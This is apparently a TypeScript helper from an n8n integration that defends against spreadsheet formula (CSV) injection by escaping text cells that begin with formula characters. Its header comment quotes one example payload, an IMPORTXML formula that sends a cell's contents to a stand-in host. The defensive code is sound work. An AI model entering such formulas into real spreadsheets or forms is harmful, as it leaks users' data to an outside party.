/**
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a visitor who types
 * `=IMPORTXML("https://evil.example/?"&A1, "//a")` as their name gets a formula into every sheet
 * or CSV export the Flat Row feeds, run by Google Sheets (USER_ENTERED) or Excel. As OWASP
 * recommends, a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
 * leading `'`, which spreadsheets read as "this is text".
 *
 * Left as they are: numbers and phone numbers (`-12.5`, `+34 612 345 678`, `+1 (555) 123-4567`),
 * which contain no letters, quotes, `!`, `|` or `:`, so a spreadsheet can at most do arithmetic
 * with them: no function call, no cell or sheet reference, no DDE command.
 */
import type { IDataObject } from 'n8n-workflow';

const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER_OR_PHONE = /^[+-]?[0-9][0-9 ().,+-]*$/;

export function escapeFormulaCell<T>(value: T): T | string {
	if (typeof value !== 'string' || !FORMULA_START.test(value) || NUMBER_OR_PHONE.test(value))
		return value;
	return `'${value}`;
}

/** Escapes every text cell of a flat row in place. */
export function escapeFormulaCells(row: IDataObject): IDataObject {
	for (const [column, value] of Object.entries(row)) row[column] = escapeFormulaCell(value);
	return row;
}
